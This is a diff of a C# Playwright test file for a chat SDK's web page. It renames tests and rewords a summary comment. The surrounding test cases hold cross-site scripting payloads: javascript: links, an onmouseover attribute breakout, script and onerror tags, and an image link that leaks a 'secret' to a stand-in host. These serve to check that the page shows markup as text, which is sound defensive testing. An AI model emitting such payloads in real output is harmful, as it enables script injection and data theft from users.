@@ -2,7 +2,7 @@ using Microsoft.Playwright;
 
 namespace ChatSdk.Tests.WebChat;
 
-/// <summary>What the page makes of Markdown, and of what would like to be more than text.</summary>
+/// <summary>Tests how the page renders Markdown, and that it never renders markup.</summary>
 public sealed class MarkdownTests : WebChatTest
 {
     [TestCase("Some **bold**, *thin*, ~~gone~~ and `a*b*c` text", "<p>Some <strong>bold</strong>, <em>thin</em>, <del>gone</del> and <code>a*b*c</code> text</p>")]
@@ -29,7 +29,7 @@ public sealed class MarkdownTests : WebChatTest
     [TestCase("[click](javascript:window.isHacked=true)", "[click](javascript:window.isHacked=true)")]
     [TestCase("[click](https://example.com/\"onmouseover=\"window.isHacked=true)", "click")]
     [TestCase("![picture](https://example.com/leak?said=secret)", "picture")]
-    public async Task Markup_in_an_answer_is_text(string text, string seen)
+    public async Task Markup_in_an_answer_is_shown_as_text(string text, string seen)
     {
         var hosts = new List<string>();
         Server.AnswersText(text);
@@ -46,7 +46,7 @@ public sealed class MarkdownTests : WebChatTest
     }
 
     [Test]
-    public async Task Markup_is_seen_as_it_was_written()
+    public async Task Markup_is_shown_as_written()
     {
         Server.AnswersText("""Look: <script>alert(1)</script> <img src=x onerror="alert(2)">""");
         await OpenAsync();
@@ -59,7 +59,7 @@ public sealed class MarkdownTests : WebChatTest
     }
 
     [Test]
-    public async Task Page_could_not_make_markup_of_text_if_it_wanted_to()
+    public async Task Page_is_unable_to_turn_text_into_markup()
     {
         await OpenAsync();
 
